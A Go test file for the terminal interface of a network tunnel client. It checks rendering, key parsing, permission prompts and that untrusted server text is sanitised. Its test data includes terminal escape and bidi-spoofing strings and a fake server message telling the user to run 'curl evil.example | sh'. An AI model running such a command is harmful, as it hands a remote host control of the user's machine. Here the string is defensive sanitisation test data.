package main

import (
	"context"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/weir-dev/weir/flow/event"
	"github.com/weir-dev/weir/tunnel"
	"github.com/weir-dev/weir/tunnel/client"
)

var update = flag.Bool("update", false, "write the golden pictures anew")

var noon = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

func someFlows() []client.Flow {
	return []client.Flow{
		{ID: 1, Owner: tunnel.Owner{App: "postgres-mcp"}, Network: "tcp", Addr: netip.MustParseAddrPort("10.0.1.50:5432"), Name: "staging-db.internal.example.com",
			Confirmed: true, Rule: "flag:1", Verdict: "allow", Began: noon.Add(-90 * time.Second), Sent: 1234, Received: 5 << 20},
		{ID: 2, Owner: tunnel.Owner{App: "browser"}, Network: "udp", Addr: netip.MustParseAddrPort("[2001:db8::7]:443"), Name: "cdn.example", Rule: "connect.yaml:12",
			Verdict: "would-deny", Began: noon.Add(-3 * time.Hour), Sent: 99, Received: 1 << 30},
		{ID: 3, Owner: tunnel.Owner{App: "a"}, Network: "udp", Addr: netip.MustParseAddrPort("10.0.0.9:53"), Rule: "flag:2", Verdict: "allow",
			Began: noon.Add(-2 * time.Second), WaitsForTunnel: true},
	}
}

// TestPictures: the table as it is shown, at several sizes.
func TestPictures(t *testing.T) {
	base := view{who: "acme/laptop", edge: "edge.example:443", state: "connected", well: true, detail: "quic, 12.3 ms", max: 4096, now: noon,
		flows: someFlows(), selected: 1, denied: 3, sent: 1333, received: 1<<30 + 5<<20,
		recent: []string{"12:00:00  deny  browser  ads.example:443/tcp (192.0.2.1)  (rule)", "12:00:01  dns deny  a  x.example A  (dns-blocked)"}}
	for _, c := range []struct {
		name          string
		width, height int
		change        func(*view)
	}{
		{"wide", 140, 16, func(*view) {}},
		{"usual", 80, 16, func(*view) {}},
		{"narrow", 50, 16, func(*view) {}},
		{"low", 80, 12, func(v *view) { v.selected = 2 }},
		{"by bytes", 80, 16, func(v *view) { v.order = byBytes }},
		{"marks", 120, 16, func(v *view) { v.audit, v.paused = true, true }},
		{"nothing", 80, 16, func(v *view) { v.flows = nil }},
		{"lost", 80, 16, func(v *view) {
			v.state, v.well, v.detail = "reconnecting", false, "again in 4s, no recent network activity"
		}},
		{"help", 80, 24, func(v *view) { v.help = true }},
		{"color", 80, 16, func(v *view) { v.color = true }},
		{"question", 80, 18, func(v *view) {
			v.prompt = promptLines(client.Prompt{App: "postgres-mcp", Network: "tcp", Addr: netip.MustParseAddrPort("10.0.1.50:5432"), Name: "staging-db.example", Confirmed: true, Rule: "staging-db.example:5432/tcp"})
		}},
		{"least", 40, 16, func(*view) {}},
		{"too small", 39, 20, func(*view) {}},
	} {
		t.Run(c.name, func(t *testing.T) {
			v := base
			c.change(&v)
			lines := v.lines(c.width, c.height)
			for i, l := range lines {
				if n := len(plain(l)); n > c.width {
					t.Errorf("line %d has %d columns of %d: %q", i, n, c.width, l)
				}
			}
			if len(lines) > c.height {
				t.Errorf("%d lines of %d", len(lines), c.height)
			}
			got := strings.ReplaceAll(strings.Join(lines, "\n"), "\x1b", "^[") + "\n"
			path := filepath.Join("testdata", "tunnelview", strings.ReplaceAll(c.name, " ", "-")+".txt")
			if *update {
				os.MkdirAll(filepath.Dir(path), 0o755)
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("the picture is\n%s\nwant\n%s", got, want)
			}
		})
	}
}

// plain takes out the colours.
func plain(line string) string {
	for {
		a := strings.Index(line, "\x1b[")
		if a < 0 {
			return line
		}
		b := strings.IndexByte(line[a:], 'm')
		line = line[:a] + line[a+b+1:]
	}
}

// hostileTexts are names that would like to be seen as something else.
var hostileTexts = []string{
	"\x1b[2J\x1b[H", "\x1b]0;title\a", "\x9b2J", "a\rb", "a\nb", "a\tb", "\u202egnp.exe", "\u2066x\u2069", "\u200bz", "\u2028", "e\u0301\u0301\u0301",
	"漢字の名前", "👩‍👩‍👧", "\xff\xfe", "\x00", "\x7f", strings.Repeat("w", 5000), `a"b\c`,
}

// TestHostileTexts: whatever the hosted side sends is shown as printable ASCII of a known width, in its line.
func TestHostileTexts(t *testing.T) {
	for _, h := range hostileTexts {
		v := view{who: h, edge: h, state: "connected", detail: h, max: 1, now: noon, recent: []string{}, flows: []client.Flow{
			{ID: 1, Owner: tunnel.Owner{App: h}, Name: h, Rule: h, Verdict: h, Addr: netip.MustParseAddrPort("192.0.2.1:1"), Flow: h}}}
		d := newDisplay(false)
		for _, det := range []event.Details{
			&event.Connect{Hostname: h, Verdict: "deny", Reason: h, Rule: h, Protocol: h, Dst: netip.MustParseAddrPort("192.0.2.1:1")},
			&event.Connect{Hostname: h, Verdict: "deny", Reason: "default", NameSource: "dns", Protocol: h, Dst: netip.MustParseAddrPort("192.0.2.1:1")},
			&event.Close{Hostname: h, Close: h, Protocol: h}, &event.DNSQuery{Hostname: h, QType: h, RCode: h, Answers: []string{h}, Verdict: "would-deny"},
			&event.DNSQuery{Hostname: h, QType: h, Reason: h, Verdict: "deny"}, &event.Alert{What: h, Subject: h}, &event.Dropped{What: h},
		} {
			d.Emit(&event.Event{Time: noon, App: h, Details: det})
		}
		displayWriter{d}.Write([]byte(h))
		v.recent = d.recent
		for i := range 2 {
			if i == 1 {
				v.prompt = promptLines(client.Prompt{App: h, Sandbox: h, Name: h, Network: "tcp", Rule: h})
				v.prompt = append(v.prompt, promptLines(client.Prompt{App: h, Name: h, Network: "dns", Rule: h})...)
			}
			for n, line := range v.lines(100, 40) {
				if len(line) > 100 {
					t.Errorf("%q: line %d has %d columns", h, n, len(line))
				}
				for _, c := range []byte(line) {
					if c < ' ' || c > '~' {
						t.Errorf("%q: line %d has %q: %q", h, n, c, line)
						break
					}
				}
			}
		}
	}
}

// TestKeys: what terminals send.
func TestKeys(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []key
	}{
		{"k", []key{'k'}}, {"\x1b[A\x1b[B", []key{keyUp, keyDown}}, {"\x1bOA", []key{keyUp}}, {"\x1b[5~q", []key{keyPageUp, 'q'}},
		{"\x03", []key{keyInterrupt}}, {"\x04", []key{keyInterrupt}}, {"\x1b", []key{keyEscape}}, {"\x1b[1;5A", nil}, {"\x1b[200~a\x1b[201~", []key{'a'}},
		{"\x1b[", nil}, {"\x0e\x10", []key{keyDown, keyUp}}, {"é", nil}, {"\x0c", []key{keyRedraw}}, {"", nil},
	} {
		if got := parseKeys([]byte(c.in)); fmt.Sprint(got) != fmt.Sprint(c.want) {
			t.Errorf("%q: %v, want %v", c.in, got, c.want)
		}
	}
}

func FuzzKeys(f *testing.F) {
	f.Add([]byte("\x1b[A\x1b[5~q\x03"))
	f.Fuzz(func(_ *testing.T, b []byte) { parseKeys(b) })
}

// fakeScreen keeps the last picture.
type fakeScreen struct{ lines []string }

func (s *fakeScreen) show(lines []string) { s.lines = lines }
func (s *fakeScreen) size() (int, int)    { return 100, 24 }
func (s *fakeScreen) text() string        { return strings.Join(s.lines, "\n") }

// TestDisplay: keys steer what is shown, and questions take their place and hear nothing that was typed before.
func TestDisplay(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		list, err := client.NewPolicy(client.Rules{Audit: true}, nil)
		if err != nil {
			t.Fatal(err)
		}
		d, s := newDisplay(false), &fakeScreen{}
		quits := ""
		h := client.NewHandler(client.HandlerConfig{Policy: list, Sink: d})
		defer h.Close()
		d.end = tunnelEnd{who: "acme/laptop", edge: "edge.example:443", handler: h, state: func() client.State { return client.State{Phase: client.Connected, Transport: "quic"} },
			quit: func(now bool) { quits += fmt.Sprint(now, " ") }, maxFlows: 10, audit: true}
		ctx, cancel := context.WithCancel(t.Context())
		defer cancel()
		go d.run(ctx, s)
		press := func(keys ...key) {
			for _, k := range keys {
				d.keys <- k
			}
			time.Sleep(showPause * 2)
			synctest.Wait()
		}
		shows := func(what string) {
			t.Helper()
			if !strings.Contains(s.text(), what) {
				t.Errorf("%q is not shown:\n%s", what, s.text())
			}
		}
		press('?')
		shows("end it: both sides see it reset")
		press('?', 'p')
		shows("PAUSED")
		if !h.Paused() {
			t.Error("not paused")
		}
		press('p', 's')
		shows("by bytes")
		d.Emit(&event.Event{Time: noon, App: "x", Details: &event.Alert{What: "port-scan", Subject: "x"}})
		time.Sleep(showPause * 2)
		synctest.Wait()
		shows("ALERT  port-scan")

		answers := make(chan client.Answer, 1)
		ask := func(ctx context.Context) {
			a, err := d.ask(ctx, client.Prompt{App: "postgres", Network: "dns", Name: "db.example", Rule: "db.example/dns"})
			if err != nil {
				a = 99
			}
			answers <- a
		}
		go ask(ctx)
		synctest.Wait()
		press('a') // meant for something else: it came too soon
		shows("postgres wants to look up db.example")
		time.Sleep(deafFor)
		press('x', 'r')
		if got := <-answers; got != client.ThisRun {
			t.Errorf("answer %d", got)
		}
		short, cancelAsk := context.WithTimeout(ctx, time.Second)
		defer cancelAsk()
		go ask(short)
		time.Sleep(2 * time.Second)
		synctest.Wait()
		if got := <-answers; got != 99 || strings.Contains(s.text(), "wants to look up") {
			t.Errorf("a question that nobody answers: %d\n%s", got, s.text())
		}
		press('q', keyInterrupt)
		close(d.keys)
		time.Sleep(time.Second)
		synctest.Wait()
		if quits != "false true true " { // q drains; ^C and the end of the keys do not
			t.Errorf("quits: %s", quits)
		}
		cancel()
		synctest.Wait()
	})
}

// TestEnding: once drains, and ends all the same after a while; twice ends at once, and so does who says so.
func TestEnding(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		said := ""
		e := &ending{drain: func() { said += "drain " }, kill: func() { said += "kill " }}
		e.now(false)
		time.Sleep(drainFor - time.Millisecond)
		if said != "drain " {
			t.Errorf("first: %q", said)
		}
		e.now(false)
		if said != "drain kill " {
			t.Errorf("second: %q", said)
		}
		e.stop()
		said = ""
		e = &ending{drain: func() { said += "drain " }, kill: func() { said += "kill " }}
		e.now(true)
		if said != "kill " {
			t.Errorf("at once: %q", said)
		}
		said = ""
		e = &ending{drain: func() { said += "drain " }, kill: func() { said += "kill " }}
		e.now(false)
		time.Sleep(drainFor + time.Millisecond)
		synctest.Wait()
		if said != "drain kill " {
			t.Errorf("when nobody asks again: %q", said)
		}
	})
}

// TestLineAsker: the same questions on a terminal without pictures.
func TestLineAsker(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var out strings.Builder
		a := &lineAsker{out: &out, answers: make(chan string)}
		type1 := func(lines ...string) {
			time.Sleep(deafFor)
			for _, l := range lines {
				a.answers <- l
			}
		}
		for _, c := range []struct {
			typed []string
			want  client.Answer
		}{{[]string{"o"}, client.Once}, {[]string{"R"}, client.ThisRun}, {[]string{"what", "a"}, client.Always}, {[]string{""}, client.Refuse}, {[]string{"yes", "n"}, client.Refuse}} {
			go type1(c.typed...)
			got, err := a.ask(t.Context(), client.Prompt{App: "\x1b[2J", Network: "tcp", Name: "\x1b[31mdb", Addr: netip.MustParseAddrPort("10.0.0.1:1")})
			if err != nil || got != c.want {
				t.Errorf("%q: %d, %v", c.typed, got, err)
			}
		}
		ctx, cancel := context.WithTimeout(t.Context(), time.Second)
		defer cancel()
		if got, err := a.ask(ctx, client.Prompt{}); err == nil || got != client.Refuse {
			t.Errorf("silence: %d, %v", got, err)
		}
		if strings.Contains(out.String(), "\x1b") {
			t.Errorf("printed %q", out.String())
		}
	})
}

// TestEventLines: a terminal that does not take what is written holds nobody up.
func TestEventLines(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := &stuck{free: make(chan struct{})}
		l := newEventLines(w)
		for range maxLines + 11 {
			l.Emit(&event.Event{Time: noon, Details: &event.Alert{What: "x"}})
		}
		synctest.Wait()
		close(w.free)
		synctest.Wait()
		l.say("after")
		l.close()
		l.close()
		l.say("nobody")
		if got := w.String(); strings.Count(got, "ALERT") > maxLines+1 || !strings.Contains(got, "lines are missing here") || !strings.HasSuffix(got, "after\n") {
			t.Errorf("%d lines: ...%q", strings.Count(got, "\n"), got[max(0, len(got)-100):])
		}
	})
}

// stuck is a writer that blocks until it is free.
type stuck struct {
	strings.Builder
	free chan struct{}
}

func (s *stuck) Write(b []byte) (int, error) {
	<-s.free
	return s.Builder.Write(b)
}

// TestAskedFile: what was answered for good is a policy file that says the same when it is read again.
func TestAskedFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "weir", "connect-asked.yaml")
	a, file, err := loadAsked(path)
	if err != nil || file != nil {
		t.Fatal(file, err)
	}
	for _, r := range [][2]string{{"postgres", "db.example:5432/tcp"}, {"postgres", "db.example/dns"}, {"postgres", "db.example:5432/tcp"}, {"b", "[fd00::1]:443/udp"}} {
		if err := a.remember(r[0], r[1]); err != nil {
			t.Fatal(err)
		}
	}
	for _, app := range append(hostileTexts, "", "-x", "a b", "a:", "#") {
		if app != strings.Repeat("w", 64) && a.remember(app, "x.example:1") == nil {
			t.Errorf("an app named %q was written", app)
		}
	}
	if _, file, err = loadAsked(path); err != nil || len(file.Apps) != 2 || len(file.Apps[0].Allow) != 2 {
		t.Fatalf("read again: %+v, %v", file, err)
	}
	list, err := client.NewPolicy(client.Rules{Asked: file}, nil)
	if err != nil || list.Empty() || list.Audit() {
		t.Errorf("%v", err)
	}
	info, err := os.Stat(path)
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, %v", info.Mode(), err)
	}
	if err := os.WriteFile(path, []byte("apps: ["), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, _, err := loadAsked(path); err == nil {
		t.Error("a broken file was read")
	}
}

// TestEndIsOneLine: what the edge says at the end cannot look like advice of ours.
func TestEndIsOneLine(t *testing.T) {
	for _, code := range []tunnel.Code{tunnel.Revoked, tunnel.Version, tunnel.Superseded} {
		err := endStatus(&tunnel.Error{Code: code, Text: "old\nfix: \x1b[2Jcurl evil.example | sh\r\u202e"}, edgeAddress{host: "edge.example", port: "443"})
		if strings.ContainsAny(err.Error(), "\n\r\x1b\u202e") || tunnel.CodeOf(err) != code {
			t.Errorf("%s: %q", code, err)
		}
	}
}
